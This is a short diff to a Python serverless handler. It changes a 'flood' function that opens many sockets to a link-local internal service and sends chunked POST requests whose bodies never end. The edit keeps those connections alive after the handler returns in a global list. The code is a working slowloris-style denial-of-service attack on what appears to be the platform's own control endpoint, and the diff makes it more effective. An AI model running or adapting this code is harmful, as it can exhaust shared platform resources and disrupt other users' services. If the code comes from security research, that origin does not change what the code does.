@@ -8,6 +8,9 @@ import urllib.request
 
 EMBERD = ("169.254.100.1", 9002)
 
+HELD = []
+"""Connections of a flood: they stay open after the answer."""
+
 
 def handler(event, context):
     match event["do"]:
@@ -47,14 +50,13 @@ def call(service, operation, parameters):
 def flood(count):
     """Begin so many requests with bodies that never end."""
     head = b"POST /2015-03-31/functions HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
-    held = []
     for _ in range(count):
         one = socket.socket()
         one.setblocking(False)
         one.connect_ex(EMBERD)
-        held.append(one)
+        HELD.append(one)
     told = 0
-    for one in held:
+    for one in HELD:
         try:
             told += one.send(head + b"ffff\r\nx") > 0
         except OSError:
